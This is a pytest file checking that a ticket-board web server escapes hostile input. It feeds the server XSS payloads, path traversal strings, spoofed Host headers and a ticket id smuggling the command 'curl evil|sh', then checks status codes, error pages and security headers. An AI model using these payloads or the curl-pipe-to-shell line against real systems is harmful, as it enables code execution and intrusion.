"""Tickets are hostile input and other pages are too: nothing of either becomes a page's own, and failures are said."""

import socket

import pytest

from resources import aws
from tests.aws.board.conftest import HOSTILE
from tests.aws.board.test_pages import VIEWS
from tickets_board.server import CannotListen
from tickets_cli.processes import free_port


@pytest.fixture(scope="module")
def board(filled, serve_to_all):
    return serve_to_all(filled.settings.model_copy(update={"show_text": True}))


@pytest.mark.parametrize("path", VIEWS)
def test_a_tickets_markup_is_text(board, path):
    text = board.shown(path)

    assert "<script>alert" not in text
    assert "<img" not in text
    assert "\u202e" not in text
    if path in {"/urgent", "/tickets/hostile"}:
        assert "{{7*7}}" in text
        assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in text


@pytest.mark.parametrize("parameter", ["q", "customer", "intent", "since", "list", "page", "from", "reason", "days"])
def test_what_an_address_says_is_text_too(board, parameter):
    for path in ("/search", "/tickets", "/doubtful", "/quarantine", "/overview", "/urgent"):
        answer = board.get(f"{path}?{parameter}=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
        assert answer.status in {200, 400}
        assert "<script>alert" not in answer.text


@pytest.mark.parametrize(
    "ticket",
    [
        "nobody",
        "a/b",
        "..%2f..%2fetc",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "x%00y",
        "%ff%fe",
        "a%20b",
        "T" * 500,
        "''",
    ],
)
def test_an_id_that_no_ticket_has_is_a_page_with_status_404_that_says_who_knows_more(board, ticket):
    answer = board.get(f"/tickets/{ticket}")

    assert answer.status == 404
    assert "No such ticket is enriched" in answer.text
    assert "tickets where" in answer.text
    assert "<script>alert" not in answer.text


def test_the_command_for_an_id_that_no_ticket_has_runs_nothing_else(board):
    text = board.get("/tickets/x;curl%20evil%7Csh").text

    assert "<code>tickets where &#39;x;curl evil|sh&#39;</code>" in text


@pytest.mark.parametrize(
    ("path", "said"),
    [
        ("/urgent?since=yesterday", "24h"),
        ("/urgent?urgency=low", "critical, high"),
        ("/urgent?page=x", "page before"),
        ("/tickets?list=summary:x", "urgency:"),
        ("/doubtful?reason=x", "language, intent, urgency, sentiment"),
        ("/incidents?near=nan", "0.3 to 0.99"),
        ("/incidents?hours=0", "1 to 72"),
        ("/overview?days=3", "1, 7, 30"),
        ("/quarantine?reason=x", "not_json"),
        ("/search?q=" + "x" * 1_001, "1000 characters"),
        ("/search?from=-1&urgency=high", "0 to"),
    ],
)
def test_a_wrong_parameter_is_a_page_with_status_400_that_says_what_is_right(board, path, said):
    answer = board.get(path)

    assert answer.status == 400
    assert said in answer.text


@pytest.mark.parametrize("path", ["/tickets/fresh-1", "/urgent", "/", "/static/board.css"])
@pytest.mark.parametrize("method", ["post", "put"])
def test_without_the_option_nothing_can_be_posted_and_no_page_offers_it(board, filled, path, method):
    answer = board.post(path, "urgency=low") if method == "post" else board._ask("PUT", path, {}, "urgency=low")

    assert answer.status == 405
    assert "corrections" not in filled.items("fresh-1")[0]
    assert 'method="post"' not in board.shown("/tickets/fresh-1")


def test_no_such_page_is_a_page(board):
    assert board.get("/nowhere").status == 404
    assert "Choose one of the views" in board.get("/nowhere").text
    assert board.get("/static/../app.py").status == 404
    assert board.get("/static/%2e%2e/app.py").status == 404


@pytest.mark.parametrize("path", ["/urgent", "/tickets/nobody", "/nowhere", "/static/board.css", "/urgent?since=x"])
def test_every_answer_has_the_headers_that_let_a_page_run_its_own_script_alone(board, path):
    headers = board.get(path).headers

    assert "default-src 'none'" in headers["content-security-policy"]
    assert "unsafe" not in headers["content-security-policy"]
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-content-type-options"] == "nosniff"
    assert "server" not in headers
    if not path.startswith("/static"):
        assert headers["cache-control"] == "no-store"


def test_another_name_for_this_machine_gets_nothing(board, filled, serve):
    for host in ("evil.example", "127.0.0.1.evil.example", "evil.example:8500", ""):
        answer = board.get("/urgent", Host=host)
        assert answer.status == 400
        assert "hostile" not in answer.text
    assert board.get("/urgent", Host="localhost:8500").status == 200
    assert serve(filled.settings, hosts=["board.acme.example"]).get("/urgent", Host="board.acme.example").status == 200


def test_an_address_of_ipv6_is_served_under_the_name_that_a_browser_has_for_it(filled, serve):
    if not _has_ipv6():
        with pytest.raises(CannotListen, match="::1"):
            serve(filled.settings, host="::1")
        return
    board = serve(filled.settings, host="::1")
    assert board.address.startswith("http://[::1]:")
    assert board.get("/urgent").status == 200


def _has_ipv6():
    try:
        with socket.socket(socket.AF_INET6) as probe:
            probe.bind(("::1", 0))
    except OSError:
        return False
    return True


def test_where_aws_is_away_each_page_says_so_and_the_server_lives(board, monkeypatch):
    dead = f"http://127.0.0.1:{free_port()}"
    before = board.shown("/urgent")
    with monkeypatch.context() as patch:
        patch.setenv("AWS_ENDPOINT_URL", dead)
        patch.setattr(aws, "RETRIES", 0)
        for path in ("/urgent", "/search?q=login", "/tickets/fresh-1", "/overview", "/incidents", "/quarantine"):
            answer = board.get(path)
            assert answer.status == 503
            assert dead in answer.text
    assert before.count("<tr") == board.shown("/urgent").count("<tr")


def test_where_the_index_is_missing_the_page_says_how_to_make_it_and_a_ticket_is_shown_without(spoiled, serve):
    board = serve(spoiled.settings)
    spoiled.store.delete_versions(list(spoiled.store.list_versions("search/")))

    for path in ("/overview", "/incidents", "/search?urgency=high", "/search?q=login"):
        answer = board.get(path)
        assert answer.status == 503
        assert "tickets reindex" in answer.text
    text = board.shown("/tickets/fresh-1")
    assert "Similar tickets cannot be told: the search index is empty" in text
    assert board.get("/urgent").status == 200


def test_a_defect_is_a_page_without_its_trace(filled, serve):
    class Broken:
        version = property(lambda _: 1 / 0)

    answer = serve(filled.settings, embedder=Broken).get("/overview")

    assert answer.status == 500
    assert "Something broke here" in answer.text
    assert "ZeroDivision" not in answer.text
    assert HOSTILE not in answer.text


def test_nothing_is_set_up_is_said_with_the_remedy(settings, serve):
    board = serve(settings.model_copy(update={"table": "no-such-table", "pipeline_bucket": "no-such-bucket"}))

    assert "tickets setup" in board.get("/urgent").text
    assert "tickets setup" in board.get("/quarantine").text
